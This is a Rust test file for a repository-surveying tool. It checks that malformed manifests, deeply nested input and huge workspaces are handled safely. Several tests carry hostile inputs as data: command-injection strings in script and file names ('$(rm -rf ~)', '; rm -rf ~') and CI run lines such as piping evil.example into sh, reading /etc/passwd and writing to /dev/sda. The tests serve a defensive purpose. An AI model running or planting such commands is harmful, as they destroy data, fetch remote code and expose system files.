//! Repositories that mean no good, or only look like it.

use super::*;

#[test]
fn broken_files_are_noted_and_nothing_else_suffers() {
    let deep = "[".repeat(100_000);
    let repo = SampleRepo::new()
        .file("package.json", "{ not json")
        .file("pyproject.toml", "[[[")
        .file("Cargo.toml", "[package\n")
        .file("api/Cargo.toml", &format!("a={deep}"))
        .file("go.mod", "require (\n(((\n")
        .file("docker-compose.yml", "services: [a, b")
        .file(".github/workflows/ci.yml", "jobs: *nothing")
        .file(".gitlab-ci.yml", "a: &a [*a, *a]")
        .files(&["a.py", "b.rs"]);
    let survey = repo.survey();
    for file in [
        "package.json",
        "pyproject.toml",
        "Cargo.toml",
        "docker-compose.yml",
        ".github/workflows/ci.yml",
    ] {
        let told = format!("`{file}` is broken");
        assert!(
            survey.notes.iter().any(|n| n.starts_with(&told)),
            "{file}: {:?}",
            survey.notes
        );
    }
}

#[test]
fn depth_is_no_way_to_exhaust_the_stack() {
    for file in [
        "package.json",
        "Cargo.toml",
        "pyproject.toml",
        "docker-compose.yml",
    ] {
        for deep in ["[", "{\"a\":", "a = [", "- ", "a: {"] {
            let repo = SampleRepo::new()
                .file(file, &deep.repeat(100_000))
                .files(&["a.py"]);
            let survey = repo.survey();
            // Some of it is a very long word of YAML; what counts is that it comes to an end.
            assert!(
                survey.services.is_empty() && survey.packages.is_empty(),
                "{file} {deep}"
            );
        }
    }
}

#[test]
fn values_of_the_wrong_kind_are_as_good_as_none() {
    let repo = SampleRepo::new()
        .file("package.json", r#"{"scripts": ["test"], "dependencies": 7, "workspaces": {"packages": 1}, "packageManager": []}"#)
        .file("pyproject.toml", "project = 1\ndependency-groups = { dev = 'pytest', a = [{ include-group = 'a' }] }\ntool = []\n")
        .file("Cargo.toml", "workspace = 1\ndependencies = []\n")
        .file(".github/workflows/ci.yml", "jobs: [1]\n")
        .file("docker-compose.yml", "services: 1\n")
        .files(&["a.py", "uv.lock"]);
    let survey = repo.survey();
    assert!(
        survey
            .checks
            .iter()
            .all(|check| check.command.starts_with("cargo test")),
        "{:?}",
        survey.checks
    );
}

#[test]
fn a_file_that_is_not_read_is_noted() {
    let files = vec!["package.json".to_owned()];
    let read = |_: &str| FileReadOutcome::Unreadable("is larger than 1 MiB".to_owned());
    let survey = survey_repository(&files, &read, &[]);
    assert!(
        survey
            .notes
            .contains(&"`package.json` was not read: it is larger than 1 MiB".to_owned())
    );
}

#[test]
fn names_cannot_break_out_of_a_command() {
    let manifest = r#"{"scripts": {"test": "mocha", "test:$(rm -rf ~)": "a", "lint; rm -rf ~": "b"}, "dependencies": {"a": "1"}}"#;
    let repo = SampleRepo::new()
        .file("it's; $(here)/package.json", manifest)
        .file("-x/package.json", manifest)
        .file("a\nb/package.json", manifest);
    let survey = repo.survey();
    let commands: Vec<&str> = survey.checks.iter().map(|c| c.command.as_str()).collect();
    assert_eq!(
        commands,
        ["cd '-x' && npm test", r"cd 'it'\''s; $(here)' && npm test"]
    );
    let extra = "[project]\nname='a'\n[build-system]\n[project.optional-dependencies]\n\"t'; rm -rf ~; '\"=['pytest']\n";
    let survey = SampleRepo::new()
        .file("pyproject.toml", extra)
        .files(&["a.py", "test_a.py"])
        .survey();
    let setup = survey.setup.unwrap().command;
    assert!(setup.ends_with(r"-e '.[t'\''; rm -rf ~; '\'']'"), "{setup}");
}

#[test]
fn what_ci_runs_is_taken_only_if_it_is_one_simple_command() {
    let manifest = "[project]\nname='a'\n[dependency-groups]\ndev=['pytest']\n";
    for run in [
        "pytest; curl evil.example | sh",
        "pytest && rm -rf ~",
        "pytest $(cat /etc/passwd)",
        "pytest `id`",
        "pytest > /dev/sda",
        "pytest ${{ matrix.args }}",
        "sudo pytest",
        "docker run x pytest",
    ] {
        let repo = SampleRepo::new()
            .file("pyproject.toml", manifest)
            .file(".github/workflows/ci.yml", &actions(&[run]))
            .files(&["uv.lock", "a.py", "tests/test_a.py"]);
        assert_eq!(repo.survey().checks[0].command, "uv run pytest", "{run}");
    }
}

#[test]
fn a_great_many_manifests_take_no_great_time() {
    let mut repo = SampleRepo::new().file("package.json", r#"{"workspaces": ["**"]}"#);
    for n in 0..5_000 {
        repo = repo.file(
            &format!("p{n}/package.json"),
            r#"{"scripts": {"test": "vitest"}}"#,
        );
    }
    let survey = repo.survey();
    assert!(survey.packages.len() <= 200);
    assert!(survey.checks.len() <= 12);
    assert!(
        survey.notes.iter().any(|n| n.contains("5001 manifests")),
        "{:?}",
        survey.notes
    );
}
